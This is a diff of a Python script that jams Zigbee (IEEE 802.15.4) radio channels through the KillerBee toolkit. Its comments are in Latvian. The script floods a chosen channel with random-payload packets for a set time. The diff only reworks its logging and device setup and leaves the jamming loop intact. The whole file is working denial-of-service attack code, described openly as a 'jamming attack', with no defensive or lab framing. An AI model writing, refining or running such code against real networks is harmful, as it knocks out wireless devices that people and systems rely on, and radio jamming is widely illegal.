@@ -1,7 +1,8 @@
 import logging
 import random
 import time
-from killerbee import KillerBee
+from radio import open_killerbee
+from log_queue import LazyHex, PacketLog
 
 # Žurnāla konfigurācija
 logging.basicConfig(level=logging.INFO, format="%(asctime)s - %(levelname)s - %(message)s")
@@ -19,19 +20,20 @@ def generate_jamming_packet(header, size):
     payload_size = size - len(header)
     payload = bytes([random.randint(0, 255) for _ in range(payload_size)])
     packet = header + payload
-    logging.debug(f"Generated jamming packet: {packet.hex()}")
+    logging.debug("Generated jamming packet: %s", LazyHex(packet))
     return packet
 
 def perform_jamming(interface, channel, duration, packet_size, delay, header):
   # Veic bloķēšanu, bieži nosūtot uzbrukuma paketes.
     try:
         # Killerbee inicializācija
-        kb = KillerBee(device=interface)
+        kb = open_killerbee(interface)
         kb.set_channel(channel)
         logging.info(f"Initiating a jamming attack on channel {channel} via {interface}.")
 
         start_time = time.time()
         packets_sent = 0
+        sent_log = PacketLog(__name__, "Traucēšanas paketes nosūtītas")  # Kopsavilkums, nevis ieraksts katrai paketei
 
         while time.time() - start_time < duration:
             try:
@@ -41,7 +43,7 @@ def perform_jamming(interface, channel, duration, packet_size, delay, header):
                 # Pakešu sutīšana
                 kb.inject(packet, channel=channel)
                 packets_sent += 1
-                logging.debug(f"Jamming packet was sended #{packets_sent}: {packet.hex()}")
+                sent_log("Jamming packet was sended #%d: %s", packets_sent, LazyHex(packet))
 
             except Exception as e:
                 logging.error(f"Packet error: {e}")
@@ -49,6 +51,7 @@ def perform_jamming(interface, channel, duration, packet_size, delay, header):
             time.sleep(delay)
 
         kb.close()
+        sent_log.close()
         logging.info(f"Jamming is over. Amount of sended packets: {packets_sent}")
     except Exception as e:
         logging.error(f"Device error {interface}: {e}")